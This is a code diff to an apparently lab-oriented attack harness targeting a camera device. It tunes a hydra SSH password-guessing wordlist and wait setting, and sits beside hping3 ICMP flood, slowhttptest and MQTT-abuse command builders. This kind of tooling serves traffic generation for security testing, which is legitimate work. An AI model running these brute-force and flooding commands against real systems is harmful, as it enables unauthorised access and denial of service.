@@ -56,11 +56,12 @@ def _wordlist(work: Path, size: int) -> Path:
     """``size`` guesses: the common passwords, then variants with digits appended, the
     camera's real password last."""
     base = [w for w in WORDLIST if w != CAMERA_PASSWORD]
-    words = list(base)
+    words = dict.fromkeys(base)  # ordered set: a variant may equal a common password
     suffix = 0
     while len(words) < size - 1:
-        words += [f"{w}{suffix}" for w in base]
+        words.update(dict.fromkeys(f"{w}{suffix}" for w in base))
         suffix += 1
+    words = list(words)
     words = words[: max(0, size - 1)] + [CAMERA_PASSWORD]
     path = work / "wordlist.txt"
     path.write_text("\n".join(words) + "\n")
@@ -69,7 +70,7 @@ def _wordlist(work: Path, size: int) -> Path:
 
 def _hydra(ip: str, p: dict[str, str], work: Path) -> list[str]:
     return ["hydra", "-I", "-q", "-l", p["user"], "-P", str(_wordlist(work, int(p["words"]))),
-            "-t", p["tasks"], "-W", "1", "-f", f"ssh://{ip}:{p['port']}"]
+            "-t", p["tasks"], "-W", p["wait"], "-f", f"ssh://{ip}:{p['port']}"]
 
 
 def _mqtt_abuse(ip: str, p: dict[str, str], _work: Path) -> list[str]:
@@ -103,8 +104,9 @@ ATTACKS: dict[str, Attack] = {a.name: a for a in (
            {"port": "0", "rate": "1000", "count": "5000", "size": "56", "duration": "30"},
            _hping(["--icmp"]), "hping3 ICMP echo flood, `count` packets at `rate`/s"),
     Attack("ssh-bruteforce", "ssh-bruteforce", ("hydra",), "camera",
-           {"user": CAMERA_USER, "words": "40", "tasks": "4", "port": "22", "duration": "60"},
-           _hydra, "hydra password guessing over SSH with a `words`-entry wordlist"),
+           {"user": CAMERA_USER, "words": "100", "tasks": "4", "wait": "0", "port": "22",
+            "duration": "60"},
+           _hydra, "hydra SSH password guessing: `words` guesses, `tasks` at a time"),
     Attack("slow-http", "slow-http", ("slowhttptest",), "camera",
            {"connections": "60", "rate": "20", "interval": "5", "duration": "20"},
            lambda ip, p, w: ["slowhttptest", "-H", "-c", p["connections"], "-r", p["rate"],
